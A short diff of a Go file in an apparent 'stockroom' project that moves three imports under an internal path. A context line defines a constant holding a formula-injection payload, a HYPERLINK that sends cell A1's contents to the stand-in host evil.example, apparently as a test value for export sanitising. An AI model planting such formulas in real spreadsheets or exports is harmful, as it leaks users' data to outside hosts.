@@ -17,9 +17,9 @@ import (
 
 	_ "modernc.org/sqlite"
 
-	"stockroom/catalog"
-	"stockroom/datadir"
-	"stockroom/status"
+	"stockroom/internal/catalog"
+	"stockroom/internal/datadir"
+	"stockroom/internal/status"
 )
 
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
